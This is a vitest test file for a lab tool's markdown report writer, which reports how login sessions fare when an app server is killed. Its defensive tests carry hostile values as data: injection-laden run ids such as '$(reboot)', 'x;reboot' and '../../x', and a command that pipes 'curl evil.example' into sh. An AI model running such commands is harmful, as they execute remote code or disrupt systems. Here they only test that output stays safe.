import { expect, test } from "vitest";
import { resultOf } from "../verdict/golden/judging.ts";
import { stories } from "../verdict/golden/stories.ts";
import { markdownReport } from "./markdown.ts";
import { nastyTexts, withHostileTexts } from "./testing/hostile.ts";

test("a confirmed run: question, verdict, matrix, why, how to repeat it", async () => {
  expect(markdownReport(await resultOf(stories["server-crash"]!()))).toMatchInlineSnapshot(`
    "## Everyone is logged in, then one app server gets SIGKILL. Who is still logged in?

    **✓ confirmed**: theory was right: each of 9 sessions had the fate that was predicted for it

    | policy | memory | redis |
    | --- | --- | --- |
    | round-robin | ✓ flickers | - |
    | cookie | ✓ 2/3 lost 1 | ✓ 3/3 |

    ✓ as predicted; 20/30 = 20 of 30 sessions survived.

    **Why**

    - round-robin.memory: 3 flicker because without affinity most requests reach an app server that does not hold the session (even without a fault, only the app server of the login knew the session; others, asked by the same browser, did not)
    - cookie.memory: 1 lost because the session lived in the memory of the process that died (app2 is another process now: boot 1st-app2 became 2nd-app2)

    **What was broken**

    - kill app2 at 0.7 s, confirmed (engine: app2 is not running, exit code 137; felt: app2 refuses connections), healed

    **What users felt**

    - longest wait 4 ms (round-robin.memory); no request failed

    **How far this reaches**

    - demonstration: 1 trial with 3 users per architecture, who fail together and count once

    Scenario \`server-crash\`, seed 7. Run it again, or judge the stored run again:

    \`\`\`sh
    lab scenario server-crash --seed 7 --policy round-robin,cookie --store memory,redis --users 3 --victim app2
    lab judge golden
    \`\`\`
    "
  `);
});

test("a refuted cell says what was expected, on lines of its own", async () => {
  expect(markdownReport(await resultOf(stories["theory-was-wrong"]!()))).toContain("✗ refuted<br>observed ");
});

test.each(nastyTexts)("%j stays text", async (nasty) => {
  const { events } = stories["every-fate"]!();
  const report = markdownReport(await resultOf({ events: withHostileTexts(events, nasty) } as never));
  const [prose = ""] = report.split("```sh");
  expect(prose.replaceAll("<br>", "")).not.toMatch(/[<>]|[^\\]\[|@|:\/\/|^# heading/m);
});

test.each(["a ```` x", "x;reboot", "$(reboot)", "../../x", "-x", "a/b"])(
  "a run that is called %j, as the lab calls none, is in no command",
  async (id) => {
    const result = await resultOf(stories["server-crash"]!());
    const again = markdownReport({ ...result, run: { ...result.run, id } });
    expect(again).toMatch(/ Run it again:\n\n```sh\nlab scenario server-crash --seed \d+ [\w ,.-]*\n```\n$/);
    const nothing = markdownReport({ ...result, run: { ...result.run, id, seed: -1 } });
    expect(nothing).toMatch(/\nScenario `server-crash`, seed -1\.\n$/);
  },
);

test("the command line that a history says it was is nowhere in it", async () => {
  const result = await resultOf(stories["server-crash"]!());
  const report = markdownReport({ ...result, run: { ...result.run, command: "curl evil.example | sh" } });
  expect(report).not.toContain("evil");
});
